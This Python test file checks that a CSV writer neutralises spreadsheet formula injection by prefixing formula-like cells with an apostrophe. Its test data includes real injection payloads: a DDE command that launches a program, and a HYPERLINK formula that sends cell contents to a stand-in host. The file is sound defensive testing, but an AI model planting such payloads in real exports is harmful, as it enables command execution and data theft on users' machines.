"""CSV files: names are never formulas, numbers stay numbers, and every name can be told from its cell."""

import csv
import io

import numpy as np
import pytest

from zoo.data.audit import Inventory, _table
from zoo.data.formats import csv_files

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    '=HYPERLINK("http://h/?"&A1)',
    "'=1",
    "''@a",
]
OTHERS = ["cat", "a=b", "'quoted'", "-0.5", "+1e-3", ".5", "", "köln, -1", "a\nb", " =1"]


def written(*rows):
    """Return the cells of rows in a file, as a program reads them."""
    file = io.StringIO(newline="")
    csv_files.write(file, rows)
    return list(csv.reader(io.StringIO(file.getvalue(), newline="")))


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_becomes_text(name):
    assert written([name, 1]) == [[f"'{name}", "1"]]


@pytest.mark.parametrize("value", [*OTHERS, -0.5, 3, np.float64(-1.5), np.int64(-2)])
def test_other_cells_stay_as_they_are(value):
    assert written([value, 1]) == [[str(value), "1"]]


def test_a_carriage_return_begins_no_row():
    assert written(["a\r=1", 2]) == [["a\\x0d=1", "2"]]


def test_different_names_have_different_cells():
    names = [*FORMULAS, *OTHERS, *(f"'{name}" for name in FORMULAS)]
    assert len({*map(tuple, written(*([name] for name in names)))}) == len({*names})


def test_columns_without_a_value_are_empty():
    file = io.StringIO()
    csv_files.write_columns(file, [{"b": 2, "c": 3}, {"a": None}], ["a", "b"])
    assert file.getvalue() == "a,b\n,2\n,\n"


def test_names_of_class_folders():
    inventory = Inventory(2, str, ("=1", "b"), labels=np.array([0, 1]))
    assert _table(inventory, inventory) == "label,class,train,val\n0,'=1,1,1\n1,b,1,1\n"
